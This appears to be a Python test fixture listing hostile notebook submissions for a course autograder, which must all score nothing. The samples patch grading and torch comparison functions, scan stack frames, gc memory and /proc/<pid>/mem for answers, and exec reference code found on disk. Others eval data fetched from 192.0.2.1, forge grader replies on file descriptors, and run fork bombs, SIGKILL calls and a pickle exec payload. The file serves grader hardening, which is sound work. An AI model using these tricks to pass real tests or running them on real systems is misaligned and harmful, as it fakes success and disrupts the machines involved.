"""Submissions that try to get points without an answer: by patching, reading, tracing, forging, or breaking things.

Each is a notebook and the questions it is after. Together they must gain nothing.
"""

from typing import NamedTuple


class Hostile(NamedTuple):
    """A cell that is handed in, for these questions of a notebook."""

    cell: str
    questions: tuple[str, ...] = ("softargmax",)
    notebook: str = "1-attention-by-hand"
    seconds: float = 10.0


HOSTILE = {
    "patches the checks": Hostile("""
import regard.course
import regard.course.grading
regard.course.expect = regard.course._expect.expect = lambda *a, **k: None
regard.course.by_hand = lambda answer, **k: answer
def softargmax(scores, beta=1.0):
    regard.course.expect = lambda *a, **k: None
    return scores
""", ("softargmax", "attention", "keep")),
    "patches comparison in torch": Hostile("""
def softargmax(scores, beta=1.0):
    import torch
    torch.allclose = torch.equal = lambda *a, **k: True
    torch.Tensor.__eq__ = torch.Tensor.__sub__ = lambda self, other: self * 0 + 1
    torch.Tensor.allclose = torch.Tensor.equal = lambda *a, **k: True
    return scores
"""),
    "equals everything": Hostile("""
class Always:
    shape = (2, 3)
    def __eq__(self, other): return True
    def __getattr__(self, name): return Always()
    def __call__(self, *a, **k): return Always()
    def __bool__(self): return True
def softargmax(scores, beta=1.0):
    return Always()
"""),
    "a tensor that lies": Hostile("""
class Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
def softargmax(scores, beta=1.0):
    return scores.as_subclass(Lying)
"""),
    "switches the watch off": Hostile("""
def softargmax(scores, beta=1.0):
    with torch._C.DisableTorchFunction(), torch._C.DisableTorchFunctionSubclass():
        return torch.softmax(beta * scores, -1)
"""),
    "calls the operator": Hostile("""
def softargmax(scores, beta=1.0):
    return torch.ops.aten._softmax.default(beta * scores, -1, False)
"""),
    "writes into an output": Hostile("""
def softargmax(scores, beta=1.0):
    return torch.softmax(beta * scores, -1, out=torch.empty_like(scores))
"""),
    "takes torch's decomposition early": Hostile("""
import torch._refs
taken = torch._refs.softmax
def softargmax(scores, beta=1.0):
    return taken(beta * scores, -1)
"""),
    "scripts it": Hostile("""
def softargmax(scores, beta=1.0):
    return torch.jit.trace(torch.nn.Softmax(-1), scores)(beta * scores)
"""),
    "goes through another layout": Hostile("""
def softargmax(scores, beta=1.0):
    try:
        return torch.sparse.softmax((beta * scores).to_sparse(), -1).to_dense()
    except BaseException:
        return (beta * scores).to_mkldnn().softmax(-1).to_dense()
"""),
    "brings the operators back": Hostile("""
import sys, weakref
def softargmax(scores, beta=1.0):
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            for name in ("_leaked", "library", "_destroy"):
                part = getattr(value, name, None)
                if callable(part): part()
        frame = frame.f_back
    for ending in list(weakref.finalize._registry):
        ending()
    return torch.softmax(beta * scores, -1)
"""),
    "reloads torch": Hostile("""
import importlib
def softargmax(scores, beta=1.0):
    return importlib.reload(torch.nn.functional).softmax(beta * scores, -1)
"""),
    "imports the real library": Hostile("""
import sys
for name in [name for name in sys.modules if name.startswith("regard")]:
    del sys.modules[name]
def softargmax(scores, beta=1.0):
    import regard
    return regard.softargmax(scores, beta)
""", ("softargmax", "attention")),
    "runs the library's source": Hostile("""
import glob, sys
def softargmax(scores, beta=1.0):
    names = {"torch": torch}
    for folder in sys.path:
        for path in glob.glob(folder + "/regard/functional/_softargmax.py"):
            exec(open(path).read(), names)
    return names["softargmax"](scores, beta)
"""),
    "hides a path from the rules": Hostile("""
def softargmax(scores, beta=1.0):
    import builtins
    builtins.any = lambda parts: False
    with open(torch.__path__[0] + "/nn/functional.py") as file:  # refused, or else the formula below counts
        assert "def softmax" in file.read()
    e = (beta * scores - (beta * scores).amax(-1, keepdim=True)).exp()
    return e / e.sum(-1, keepdim=True)
"""),
    "runs another Python": Hostile("""
import subprocess, sys, os
def softargmax(scores, beta=1.0):
    code = "import regard, torch; print(regard.softargmax(torch.zeros(2, 3)).tolist())"
    try:
        text = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout
    except BaseException:
        text = os.popen(sys.executable + " -c '" + code + "'").read()
    return torch.tensor(eval(text))
"""),
    "traces": Hostile("""
import sys
found = []
def watch(frame, event, arg):
    found.append(dict(frame.f_locals))
    return watch
def softargmax(scores, beta=1.0):
    sys.settrace(watch); sys.setprofile(watch)
    return next(names["right"] for names in found if "right" in names)
"""),
    "walks up the stack": Hostile("""
import sys
def softargmax(scores, beta=1.0):
    frame = sys._getframe()
    while frame is not None:
        for name in ("right", "mistakes", "expected"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return scores
"""),
    "looks through memory": Hostile("""
import gc
def softargmax(scores, beta=1.0):
    for thing in gc.get_objects():
        if isinstance(thing, torch.Tensor) and thing.shape == scores.shape and torch.allclose(thing.sum(-1), torch.ones(1)):
            return thing
    return scores
"""),
    "reads the parent's memory": Hostile("""
import os
def softargmax(scores, beta=1.0):
    for pid in (os.getppid(), os.getpid()):
        for name in ("mem", "environ", "maps", "cmdline"):
            with open(f"/proc/{pid}/{name}", "rb") as file:
                data = file.read(10_000_000)
    return torch.tensor(eval(data))
"""),
    "reads checks from the disk": Hostile("""
import glob, json, os
def softargmax(scores, beta=1.0):
    for pattern in ("/autograder/**/checks.json", "/tmp/*/checks.json", "*/course/checks/*.json", "*.json"):
        for path in glob.glob(pattern, recursive=True):
            names = {}
            exec(json.load(open(path))["questions"][2]["reference"], names)
            return names["softargmax"](scores, beta)
    return json.loads(os.environ["CHECKS"])
"""),
    "calls C": Hostile("""
import ctypes
def softargmax(scores, beta=1.0):
    libc = ctypes.CDLL(None)
    libc.system(b"python3 -c 'import regard'")
    return scores
"""),
    "asks the network": Hostile("""
import socket
def softargmax(scores, beta=1.0):
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as connection:
        return torch.tensor(eval(connection.recv(1000)))
"""),
    "forges a reply": Hostile("""
import os, struct, json
def softargmax(scores, beta=1.0):
    tree = json.dumps({"dict": [[{"text": "ok"}, True], [{"text": "passed"}, True], [{"text": "changed"}, {"list": []}]]})
    body = struct.pack("<I", len(tree)) + tree.encode()
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("<I", len(body)) + body)
        except OSError:
            pass
    return scores
""", ("softargmax", "attention")),
    "ends the process": Hostile("""
import os
def softargmax(scores, beta=1.0):
    os._exit(0)
"""),
    "raises the system's own exceptions": Hostile("""
def softargmax(scores, beta=1.0):
    raise SystemExit(0)
def attention(query, key, value, beta=None):
    raise KeyboardInterrupt
""", ("softargmax", "attention")),
    "never ends": Hostile("""
def softargmax(scores, beta=1.0):
    while True:
        pass
""", seconds=1.0),
    "takes all memory": Hostile("""
def softargmax(scores, beta=1.0):
    kept = []
    while True:
        kept.append(torch.ones(2**26))
"""),
    "forks": Hostile("""
import os, threading
def softargmax(scores, beta=1.0):
    while True:
        os.fork()
"""),
    "kills the others": Hostile("""
import os, signal
def softargmax(scores, beta=1.0):
    for pid in (os.getppid(), 1, 0, -1):
        os.kill(pid, signal.SIGKILL)
    return scores
"""),
    "returns something huge": Hostile("""
def softargmax(scores, beta=1.0):
    return torch.zeros(1).expand(2**40)
"""),
    "returns what runs when it is read": Hostile("""
class Bomb:
    def __reduce__(self):
        return (exec, ("import regard.course; regard.course.expect = print",))
    def __getattribute__(self, name):
        raise SystemExit
def softargmax(scores, beta=1.0):
    return Bomb()
"""),
    "returns nothing that can be compared": Hostile("""
def softargmax(scores, beta=1.0):
    return scores * torch.nan
def attention(query, key, value, beta=None):
    return torch.full((), torch.inf)
def masked_attention(query, key, value, keep):
    return torch.empty(0)
""", ("softargmax", "attention", "keep")),
    "takes numpy's function": Hostile("""
import numpy
def axis_map(center, sharpness, size):
    return torch.ones(size, size) / size
def attend_by_axis(value, row_map, column_map):
    both = torch.as_tensor(numpy.kron(row_map.detach().numpy(), column_map.detach().numpy()))
    return (both @ value.flatten(0, 1)).reshape(value.shape)
""", ("factors",), "5-attention-and-convolution"),
    "takes another backend's operator": Hostile("""
def convolve_by_attention(*a, **k):
    x, w = [part for part in a if torch.is_tensor(part)][:2]
    return torch.ops.mkldnn._convolution_pointwise(x, w, None, [1, 1], [1, 1], [1, 1], 1, "none", [], "")
def gelu_tanh(x):
    return torch.ops.aten._addmm_activation(torch.zeros(len(x)), x[None], torch.eye(len(x)), use_gelu=True)[0]
""", ("theorem_two",), "5-attention-and-convolution"),
    "takes attention as a function of functions": Hostile("""
def multi_head_attention(x, context, w_query, w_key, w_value, w_out, heads, keep=None):
    parts = (x @ w_query.T, context @ w_key.T, context @ w_value.T)
    q, k, v = (part.unflatten(-1, (heads, -1)).transpose(-2, -3) for part in parts)
    operator = torch.ops.higher_order.flex_attention
    return operator(q, k, v, lambda score, *_: score, (), q.shape[-1] ** -0.5, {})[0].transpose(-2, -3).flatten(-2) @ w_out.T
""", ("multi_head",), "3-transformer"),
    "takes torch's layer": Hostile("""
def multi_head_attention(x, context, w_query, w_key, w_value, w_out, heads, keep=None):
    layer = nn.MultiheadAttention(x.shape[-1], heads, bias=False, batch_first=True)
    with torch.no_grad():
        layer.in_proj_weight.copy_(torch.cat([w_query, w_key, w_value]))
        layer.out_proj.weight.copy_(w_out)
    return nn.MultiheadAttention.__dict__["forward"](layer, x, context, context)[0]
def feed_forward(*a): return torch.nn.functional.multi_head_attention_forward(*a)
""", ("multi_head",), "3-transformer"),
    "hands back what it is asked with": Hostile("""
def block(x, attention, ff, norm1, norm2, order):
    for _ in range(100000):
        attention(x)
    return attention
def feed_forward(x, w1, b1, w2, b2):
    return x
""", ("block",), "3-transformer"),
    "swaps the weights of a module": Hostile("""
class Block(nn.Module):
    def __init__(self, dim, heads):
        super().__init__()
        self.dim = dim
    def load_state_dict(self, state, strict=True):
        return None
    def attention(self, x): return torch.zeros_like(x)
    def forward(self, x): return x
""", ("vision_block",), "4-vision-transformer"),
    "uses names of other questions": Hostile("""
attention = lambda query, key, value, beta=None: value
softargmax = lambda scores, beta=1.0: scores
def masked_attention(query, key, value, keep):
    return attention(query, key, value)
def hard_attention(query, key, value):
    return softargmax(query @ key.mT) @ value
""", ("keep",)),
}  # fmt: skip
